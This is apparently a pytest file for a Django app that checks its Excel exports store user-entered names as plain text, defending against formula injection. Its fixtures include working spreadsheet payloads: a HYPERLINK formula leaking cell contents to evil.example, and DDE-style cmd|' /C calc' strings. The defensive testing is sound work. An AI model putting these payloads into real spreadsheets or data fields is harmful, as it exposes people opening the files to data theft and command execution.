"""Formula injection (issue 11, finding 2): every workbook the application writes keeps a
user's text as a text cell — a person named =HYPERLINK("http://…","点我") is that text in
Excel, not a live formula — unchanged, so that an export can be imported again.

Each export path is opened with openpyxl: the cell's data_type must be "s" (a formula
would be "f") and its value the exact original text."""

import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext_lazy

from xiezuo.core.excel import FORMULA_STARTS, append_row
from xiezuo.core.models import Job
from xiezuo.core.tests.workers import run_worker
from xiezuo.insights.tests import world as W
from xiezuo.needs.models import Round
from xiezuo.needs.tests.world import build
from xiezuo.orgs.models import Organisation
from xiezuo.people.models import Person
from xiezuo.people.resources import PersonResource
from xiezuo.regions.models import Region

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
# One name per dangerous start; the first ones survive an import unchanged (an import
# strips the surrounding blanks of a text, so a leading tab or CR does not).
NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1+1", "\r=1+1"]
ROUND_TRIP = NAMES[:4]


def cells(book) -> dict:
    """Every non-empty cell of every sheet by its value."""
    found: dict = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    found.setdefault(cell.value, cell)
    return found


# The annual report's own totals (issue 14): =SUM(G4:G9) subtotals and =G10+G20 totals.
OWN_TOTAL = re.compile(r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(\+[A-Z]+\d+)*)")


def assert_text_cells(book, texts, *, own_totals=False):
    found = cells(book)
    formulas = [c.value for c in found.values() if c.data_type == "f"
                and not (own_totals and OWN_TOTAL.fullmatch(str(c.value)))]
    assert formulas == [], formulas
    for text in texts:
        assert text in found, (text, sorted(map(repr, found))[:40])
        assert found[text].data_type == "s", text


@pytest.fixture
def people(refdata):
    hospital = Organisation.objects.create(name="烟台山医院", kind="hospital",
                                           region=Region.objects.get(code="370602"))
    for name in NAMES:
        Person.objects.create(name=name, organisation=hospital, domain="medical",
                              specialty_text="骨科", position="-主任")
    return hospital


def test_every_text_becomes_a_text_cell_numbers_stay_numbers():
    book = openpyxl.Workbook()
    append_row(book.active, [*NAMES, "#N/A", gettext_lazy("Person name"), -5, Decimal("-2.5"),
                             datetime.date(2025, 3, 1), True, None, "a\x01b"])
    out = io.BytesIO()
    book.save(out)
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    texts, rest = row[:len(NAMES)], row[len(NAMES):]
    assert [c.value for c in texts] == NAMES and {c.data_type for c in texts} == {"s"}
    assert all(c.quotePrefix for c in texts)  # Excel shows them as typed text
    assert (rest[0].value, rest[0].data_type) == ("#N/A", "s")  # not an error cell
    assert rest[1].data_type == "s" and rest[1].value in ("Person name", "姓名")
    assert [(c.value, c.data_type) for c in rest[2:4]] == [(-5, "n"), (-2.5, "n")]
    assert rest[4].value == datetime.datetime(2025, 3, 1) and rest[4].data_type == "d"
    assert (rest[5].value, rest[5].data_type) == (True, "b")
    assert rest[6].value is None
    assert rest[7].value == "ab"  # a control character cannot be stored at all
    assert all(text.startswith(FORMULA_STARTS) for text in NAMES)


def test_people_page_export_then_import_keeps_the_names(people, admin_user, client_for):
    client = client_for(admin_user)
    response = client.get("/people/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_text_cells(book, [*NAMES, "-主任"])

    # The exported file is imported again: the names come back exactly.
    Person.objects.all().delete()
    response = client.post("/people/import/",
                           {"file": SimpleUploadedFile("people.xlsx", response.content)})
    assert response.status_code == 302, response.content.decode()[-3000:]
    names = set(Person.objects.values_list("name", flat=True))
    assert set(ROUND_TRIP) <= names
    assert set(Person.objects.values_list("position", flat=True)) == {"-主任"}


def test_export_through_the_background_job(people, admin_user, client_for, settings):
    settings.XIEZUO_BACKGROUND_ROWS = 3
    client = client_for(admin_user)
    response = client.get("/people/export.xlsx")
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == f"/jobs/{job.pk}/"
    run_worker()
    job.refresh_from_db()
    assert job.status == "succeeded", job.message
    download = client.get(f"/jobs/{job.pk}/download")
    assert download.status_code == 200
    assert_text_cells(openpyxl.load_workbook(io.BytesIO(download.content)), NAMES)


def test_template_and_other_resources_exports(people, admin_user, client_for):
    """Organisations go through the same writer (core.excel.workbook_bytes)."""
    Organisation.objects.filter(pk=people.pk).update(name="=1+2")
    client = client_for(admin_user)
    book = openpyxl.load_workbook(io.BytesIO(client.get("/organisations/export.xlsx").content))
    assert_text_cells(book, ["=1+2"])
    template = openpyxl.load_workbook(io.BytesIO(client.get("/people/template.xlsx").content))
    assert template.active.freeze_panes == "A2" and template.active["A1"].font.bold


def test_insights_report_xlsx(refdata, admin_user, client_for):
    data = W.build()
    Person.objects.filter(name="医生甲").update(name=HYPERLINK)
    response = client_for(admin_user).get(f"/insights/report.xlsx?pairing={data['p0'].pk}&year=2025")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_text_cells(book, [HYPERLINK], own_totals=True)
    values = [row[2] for row in book.worksheets[0].iter_rows(min_row=3) if row[2].value is not None]
    assert values and {c.data_type for c in values} == {"n"}  # figures stay numbers


def test_round_plan_xlsx(refdata, make_user, client_for):
    world = build(make_user)
    Person.objects.filter(name="甲医生").update(name=HYPERLINK)
    Person.objects.filter(name="乙医生").update(name="@乙医生")
    client = client_for(world["coordinator"])
    response = client.post("/needs/rounds/new/", {
        "name": "=轮次", "needs": [world["need"].pk, world["unfillable"].pk],
        "w_specialty": 35, "w_title": 10, "w_pairing": 20, "w_availability": 10,
        "w_continuity": 5, "w_fairness": 5, "w_priority": 15})
    assert response.status_code == 302, response.content.decode()[:2000]
    round_ = Round.objects.get(name="=轮次")
    assert client.post(f"/needs/rounds/{round_.pk}/run/").status_code == 302
    response = client.get(f"/needs/rounds/{round_.pk}/plan.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_text_cells(book, [HYPERLINK, "@乙医生"])
    matches = book.worksheets[0]
    assert (matches.cell(2, 4).value, matches.cell(2, 4).data_type) == (HYPERLINK, "s")
    assert matches.cell(2, 6).data_type == "n"  # the score stays a number


def test_the_admin_export_and_import_use_the_same_safety(people, admin_user, client_for):
    """The administration (django-import-export) offers .xlsx only, written by the same
    writer and read after the same inspection."""
    client = client_for(admin_user)
    fields = {f"personresource_{name}": "on" for name in PersonResource(actor=admin_user).fields}
    response = client.post("/admin/people/person/export/", {"format": "0", **fields})
    assert response.status_code == 200 and response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"), response.content[:500]
    assert_text_cells(openpyxl.load_workbook(io.BytesIO(response.content)), NAMES)
    form = client.get("/admin/people/person/import/").content.decode()
    assert "xlsx" in form and "csv" not in form.lower()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", "x")
    response = client.post("/admin/people/person/import/",
                           {"format": "0", "import_file": SimpleUploadedFile("p.xlsx", bomb.getvalue())})
    # django-import-export names only the kind of error it met while reading the file.
    assert "ImportFileError" in response.content.decode()
    assert Person.objects.count() == len(NAMES)
